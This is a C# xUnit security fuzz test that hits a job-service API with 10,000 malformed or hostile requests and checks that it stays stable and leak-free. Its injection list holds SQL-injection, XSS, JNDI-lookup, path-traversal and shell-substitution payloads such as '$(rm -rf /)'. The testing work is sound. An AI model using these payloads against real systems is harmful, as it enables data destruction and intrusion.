using System.Collections.Concurrent;
using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using JobHome.Silo.Tests.Api;
using Xunit.Abstractions;
using Side = JobHome.Silo.Tests.Security.SecurityWorld.Side;

namespace JobHome.Silo.Tests.Security;

/// <summary>
/// 10,000 generated hostile requests (seeded): wrong types, huge and deep bodies, invalid UTF-8, injection strings in
/// every field, wrong content types, missing, forged, expired, revoked and other-subtree tokens. Every one must be
/// answered below 500, none may change a record, and the silo must be healthy afterwards with no ID number in its log.
/// </summary>
[Collection(SecurityCollection.Name)]
public sealed partial class FuzzTests(SecuredSiloFixture fixture, ITestOutputHelper output)
{
    private const int Requests = 10_000;
    private const int Workers = 8;
    private const int Seed = 20_261_129;

    private static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE grain_state;--", "\" OR 1=1 --", "1; DELETE FROM audit_log", "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "${jndi:ldap://evil/a}", "{{7*7}}", "../../../../etc/passwd",
        "%00", "\u0000", "\u202e\u0644", "😀😀😀", "$(rm -rf /)", "`id`", "\\", "{\"$ne\":null}", "admin'--", "NaN",
    ];

    [Fact]
    public async Task TenThousandHostileRequests_NoServerError_NoChange_SiloHealthy()
    {
        var world = await SecurityWorld.CreateAsync(fixture);
        var outsideName = $"fz{ApiDriver.Next()}-outside";
        await fixture.CreateUserAsync(outsideName, SecurityWorld.Password, "site", world.Outside.Tree.Village);
        var outsideToken = await fixture.TokenAsync(outsideName, SecurityWorld.Password);
        var revokedName = $"fz{ApiDriver.Next()}-revoked";
        await fixture.CreateUserAsync(revokedName, SecurityWorld.Password, "county", world.Inside.Tree.County);
        var revokedToken = await fixture.TokenAsync(revokedName, SecurityWorld.Password);
        using (var disable = await fixture.Silo.Http.PostAsync(new Uri($"/api/users/{revokedName}/disable", UriKind.Relative), null))
        {
            Assert.Equal(HttpStatusCode.OK, disable.StatusCode);
        }
        await WaitForIndicatorsAsync(world);
        var before = await SnapshotAsync(world);

        var now = DateTime.UtcNow;
        var badTokens = new[]
        {
            "garbage", TestTokens.Unsigned("admin"), revokedToken,
            TestTokens.Mint("admin", "admin", null, "x", now.AddHours(-3), now.AddHours(-2)),
            TestTokens.Mint("admin", "admin", null, "x", now.AddMinutes(-1), now.AddHours(1), key: Convert.ToBase64String(new byte[32])),
        };
        var random = new Random(Seed);
        var plan = Enumerable.Range(0, Requests).Select(i => Generate(random, i, world, outsideToken, badTokens)).ToArray();

        var statuses = new ConcurrentDictionary<int, int>();
        var failures = new ConcurrentBag<string>();
        using var client = new HttpClient { BaseAddress = fixture.Silo.BaseAddress, Timeout = TimeSpan.FromSeconds(60) };
        var next = -1;
        await Task.WhenAll(Enumerable.Range(0, Workers).Select(async _ =>
        {
            int index;
            while ((index = Interlocked.Increment(ref next)) < plan.Length)
            {
                var fuzz = plan[index];
                using var request = fuzz.ToRequest();
                HttpResponseMessage response;
                try
                {
                    response = await client.SendAsync(request, HttpCompletionOption.ResponseHeadersRead);
                }
                catch (HttpRequestException) when (fuzz.Kind == "huge body")
                {
                    // Kestrel may close the connection on a body it refused instead of reading 9 MiB first.
                    statuses.AddOrUpdate(0, 1, (_, n) => n + 1);
                    continue;
                }
                using var answered = response;
                var status = (int)response.StatusCode;
                statuses.AddOrUpdate(status, 1, (_, n) => n + 1);
                if (status >= 500)
                {
                    failures.Add($"{status} {fuzz.Describe()}");
                }
                else if (fuzz.Mutates && status is >= 200 and < 300)
                {
                    failures.Add($"{status} (a hostile write was accepted) {fuzz.Describe()}");
                }
            }
        }));

        output.WriteLine("statuses: " + string.Join(", ", statuses.OrderBy(s => s.Key).Select(s => $"{s.Key}×{s.Value}")));
        Assert.Equal(Requests, statuses.Values.Sum());
        Assert.True(failures.IsEmpty, $"{failures.Count} bad answers:\n" + string.Join("\n", failures.Take(40)));
        using (var ready = await client.GetAsync(new Uri("/health/ready", UriKind.Relative)))
        {
            Assert.Equal(HttpStatusCode.OK, ready.StatusCode);
        }
        var after = await SnapshotAsync(world);
        Assert.Equal(before, after);
        var log = fixture.Silo.StandardOutput + fixture.Silo.StandardError;
        var leaked = IdCardShaped().Matches(log).Select(m => m.Value[..4] + "…").Distinct().ToArray();
        Assert.True(leaked.Length == 0, $"ID-card-shaped strings in the silo's log: {string.Join(", ", leaked)}");
    }

    /// <summary>One planned request.</summary>
    private sealed record Fuzz(string Method, string Path, string? Token, byte[]? Body, string? ContentType, bool Mutates, string Kind)
    {
        public HttpRequestMessage ToRequest()
        {
            var request = new HttpRequestMessage(new HttpMethod(Method), new Uri(Path, UriKind.Relative));
            if (Token is not null)
            {
                request.Headers.TryAddWithoutValidation("Authorization", "Bearer " + Token);
            }
            if (Body is not null)
            {
                request.Content = new ByteArrayContent(Body);
                if (ContentType is not null)
                {
                    request.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
                }
            }
            return request;
        }

        public string Describe() => $"{Method} {Path} [{Kind}] {(Body is null ? 0 : Body.Length)} bytes";
    }

    private Fuzz Generate(Random random, int index, SecurityWorld world, string outsideToken, string[] badTokens)
    {
        var a = world.Inside;
        var writes = Writes(a, world);
        var roll = random.Next(100);
        if (index < 5)
        {
            // A few bodies over the 8 MiB JSON limit.
            var (method, path, _) = writes[index % writes.Length];
            return new Fuzz(method, path, world.Tokens["admin"], Encoding.UTF8.GetBytes("{\"name\":\"" + new string('x', 9 * 1024 * 1024) + "\"}"),
                "application/json", true, "huge body");
        }
        if (roll < 15)
        {
            return HostileRead(random, world);
        }
        if (roll < 16)
        {
            var path = random.Next(2) == 0 ? "/api/auth/login" : "/api/auth/token";
            var body = new JsonObject { ["username"] = $"nobody{random.Next(1000)}", ["password"] = Pick(random, Injections) };
            return new Fuzz("POST", path, null, Encoding.UTF8.GetBytes(body.ToJsonString()), "application/json", false, "sign-in with a wrong name");
        }
        var (m, p, template) = writes[random.Next(writes.Length)];
        string token;
        string kind;
        byte[] bytes;
        var contentType = "application/json";
        if (roll < 30)
        {
            token = random.Next(4) == 0 ? null! : Pick(random, badTokens);
            kind = token is null ? "no token" : "bad token";
            bytes = Encoding.UTF8.GetBytes(template.ToJsonString());
        }
        else if (roll < 45)
        {
            token = outsideToken;
            kind = "token of another subtree";
            bytes = Encoding.UTF8.GetBytes(template.ToJsonString());
        }
        else if (roll < 52)
        {
            token = world.Tokens[random.Next(2) == 0 ? "auditor" : "fair_organiser"];
            kind = "role that may not write";
            bytes = Encoding.UTF8.GetBytes(template.ToJsonString());
        }
        else
        {
            token = world.Tokens["admin"];
            (bytes, contentType, kind) = Malform(random, template);
        }
        return new Fuzz(m, p, token, bytes, contentType, true, kind);
    }

    private static (byte[] Body, string ContentType, string Kind) Malform(Random random, JsonObject template)
    {
        switch (random.Next(10))
        {
            case 0:
                return (Encoding.UTF8.GetBytes(Rewrite(template, _ => WrongType(random)).ToJsonString()), "application/json", "wrong types");
            case 1:
                return (Encoding.UTF8.GetBytes(Rewrite(template, v => v is JsonValue value && value.TryGetValue<string>(out _)
                    ? JsonValue.Create(Pick(random, Injections)) : v?.DeepClone()).ToJsonString()), "application/json", "injection in every string");
            case 2:
                var depth = random.Next(40, 3000);
                return (Encoding.UTF8.GetBytes(new string('[', depth) + new string(']', depth)), "application/json", "deep JSON");
            case 3:
                var json = Encoding.UTF8.GetBytes(template.ToJsonString());
                var at = Array.IndexOf(json, (byte)'"', json.Length / 2);
                var broken = json.ToList();
                broken.InsertRange(Math.Max(1, at + 1), new byte[] { 0xC3, 0x28, 0xFF, 0xFE });
                return ([.. broken], "application/json", "invalid UTF-8");
            case 4:
                var longString = Rewrite(template, v => v is JsonValue value && value.TryGetValue<string>(out _)
                    ? JsonValue.Create(new string('长', 10_001)) : v?.DeepClone());
                return (Encoding.UTF8.GetBytes(longString.ToJsonString()), "application/json", "string over the limit");
            case 5:
                var array = new JsonObject { ["memberIds"] = new JsonArray(Enumerable.Range(0, 100_001).Select(_ => (JsonNode)1).ToArray()) };
                return (Encoding.UTF8.GetBytes(array.ToJsonString()), "application/json", "array over the limit");
            case 6:
                return (Encoding.UTF8.GetBytes(template.ToJsonString()), Pick(random, ["text/plain", "application/xml", "multipart/form-data; boundary=x",
                    "application/x-www-form-urlencoded"]), "wrong content type");
            case 7:
                var bytes = new byte[random.Next(1, 2048)];
                random.NextBytes(bytes);
                return (bytes, "application/json", "random bytes");
            case 8:
                return (Encoding.UTF8.GetBytes(Pick(random, ["null", "[]", "42", "\"x\"", "true", "{", "{\"a\":}", "{}}"])), "application/json",
                    "not an object");
            default:
                return (Encoding.UTF8.GetBytes(Rewrite(template, _ => null).ToJsonString()), "application/json", "every field null");
        }
    }

    private static Fuzz HostileRead(Random random, SecurityWorld world)
    {
        var injection = Uri.EscapeDataString(Pick(random, Injections));
        var path = random.Next(6) switch
        {
            0 => $"/api/seekers/{injection}",
            1 => $"/api/seekers?siteCode={injection}&q={injection}&page={injection}",
            2 => $"/api/sites/{injection}/alerts",
            3 => $"/api/indicators/{injection}/history",
            4 => $"/api/audit?siteCode={injection}&from={injection}&to={injection}&limit={injection}",
            _ => $"/api/posts/{injection}/candidates",
        };
        var token = random.Next(3) == 0 ? world.Tokens["site"] : world.Tokens["admin"];
        return new Fuzz("GET", path, token, null, null, false, "hostile read");
    }

    /// <summary>The JSON-body writes of tree A with a valid body each (the generator makes them hostile).</summary>
    private static (string Method, string Path, JsonObject Template)[] Writes(Side a, SecurityWorld world)
    {
        var today = ApiDriver.Today.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);
        var seeker = new ApiDriver(new HttpClient()).SeekerBody(a.Tree.Village, "unemployed", ApiDriver.Today.AddMonths(-1));
        var seekerJson = JsonSerializer.SerializeToNode(seeker)!.AsObject();
        var site = new JsonObject
        {
            ["code"] = a.Tree.Village + "-F", ["name"] = "新村就业之家", ["kind"] = "village", ["parentCode"] = a.Tree.Township,
            ["lat"] = 25.1, ["lon"] = 114.9, ["rural"] = true,
        };
        var employer = new JsonObject { ["creditCode"] = ApiDriver.NewCreditCode(), ["name"] = "信丰电子厂", ["siteCode"] = a.Tree.Village };
        var post = new JsonObject
        {
            ["siteCode"] = a.Tree.Village, ["employerCode"] = a.Employer, ["title"] = "装配工", ["occupation"] = "6-25", ["openings"] = 3,
            ["payMin"] = 3000, ["payMax"] = 5000, ["lat"] = 25.38, ["lon"] = 114.92, ["kind"] = "full_time",
        };
        return
        [
            ("POST", "/api/seekers", seekerJson),
            ("PUT", $"/api/seekers/{a.Seeker}", seekerJson),
            ("POST", $"/api/seekers/{a.Seeker}/followups", new JsonObject { ["date"] = today, ["kind"] = "visit", ["note"] = "上门走访" }),
            ("POST", $"/api/seekers/{a.Seeker}/reveal", new JsonObject { ["reason"] = "fuzz" }),
            ("POST", "/api/sites", site),
            ("PUT", $"/api/sites/{a.Tree.Village}", site),
            ("POST", "/api/employers", employer),
            ("PUT", $"/api/employers/{a.Employer}", new JsonObject { ["creditCode"] = a.Employer, ["name"] = "改名厂", ["siteCode"] = a.Tree.Village }),
            ("POST", "/api/posts", post),
            ("PUT", $"/api/posts/{a.Post}", post),
            ("POST", "/api/households", new JsonObject { ["siteCode"] = a.Tree.Village, ["memberIds"] = new JsonArray(a.PlacedSeeker) }),
            ("PUT", $"/api/households/{a.Household}", new JsonObject { ["siteCode"] = a.Tree.Village, ["memberIds"] = new JsonArray(a.PlacedSeeker) }),
            ("POST", "/api/placements", new JsonObject { ["seekerId"] = a.Seeker, ["postId"] = a.Post, ["date"] = today }),
            ("POST", $"/api/placements/{a.Placement}/end", new JsonObject { ["date"] = today, ["reason"] = "resigned" }),
            ("POST", "/api/users", new JsonObject
            {
                ["username"] = "fuzzed", ["password"] = "fuzzed-password-1", ["role"] = "site", ["siteCode"] = a.Tree.Village,
            }),
        ];
    }

    private static JsonObject Rewrite(JsonObject template, Func<JsonNode?, JsonNode?> rewrite)
    {
        var copy = new JsonObject();
        foreach (var (name, value) in template)
        {
            copy[name] = rewrite(value);
        }
        return copy;
    }

    private static JsonNode WrongType(Random random) => random.Next(4) switch
    {
        0 => new JsonObject { ["nested"] = new JsonArray(1, 2) },
        1 => new JsonArray("a", 1, true),
        2 => JsonValue.Create(random.Next(2) == 0),
        _ => JsonValue.Create(1e308),
    };

    private static T Pick<T>(Random random, T[] items) => items[random.Next(items.Length)];

    /// <summary>Waits until tree A's and B's provinces show the world's records (indicators arrive over streams and timers).</summary>
    private async Task WaitForIndicatorsAsync(SecurityWorld world)
    {
        var deadline = DateTime.UtcNow.AddSeconds(30);
        foreach (var province in new[] { world.Inside.Tree.Province, world.Outside.Tree.Province })
        {
            while (true)
            {
                using var response = await fixture.Silo.Http.GetAsync(new Uri($"/api/indicators/{province}", UriKind.Relative));
                var body = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;
                if (body["employed"]!.GetValue<int>() == 1 && body["unemployed"]!.GetValue<int>() == 1 && body["placements"]!.GetValue<int>() == 1)
                {
                    break;
                }
                Assert.True(DateTime.UtcNow < deadline, $"indicators of {province} did not settle: {body}");
                await Task.Delay(200);
            }
        }
    }

    /// <summary>The records of both trees and their indicators, as the admin reads them.</summary>
    private async Task<string> SnapshotAsync(SecurityWorld world)
    {
        var text = new StringBuilder();
        foreach (var side in new[] { world.Inside, world.Outside })
        {
            var t = side.Tree;
            string[] paths =
            [
                $"/api/seekers/{side.Seeker}", $"/api/seekers/{side.PlacedSeeker}", $"/api/households/{side.Household}",
                $"/api/employers/{side.Employer}", $"/api/posts/{side.Post}", $"/api/placements/{side.Placement}",
                $"/api/sites/{t.Province}", $"/api/sites/{t.City}", $"/api/sites/{t.County}", $"/api/sites/{t.Township}", $"/api/sites/{t.Village}",
                $"/api/seekers?siteCode={t.Province}", $"/api/indicators/{t.Province}", $"/api/indicators/{t.Village}",
            ];
            foreach (var path in paths)
            {
                using var response = await fixture.Silo.Http.GetAsync(new Uri(path, UriKind.Relative));
                text.Append(path).Append(' ').Append((int)response.StatusCode).Append(' ').AppendLine(await response.Content.ReadAsStringAsync());
            }
        }
        using var users = await fixture.Silo.Http.GetAsync(new Uri("/api/users", UriKind.Relative));
        text.AppendLine(await users.Content.ReadAsStringAsync());
        return text.ToString();
    }

    [GeneratedRegex(@"(?<![0-9])[1-9][0-9]{5}(19|20)[0-9]{2}(0[1-9]|1[0-2])(0[1-9]|[12][0-9]|3[01])[0-9]{3}[0-9Xx](?![0-9])")]
    private static partial Regex IdCardShaped();
}
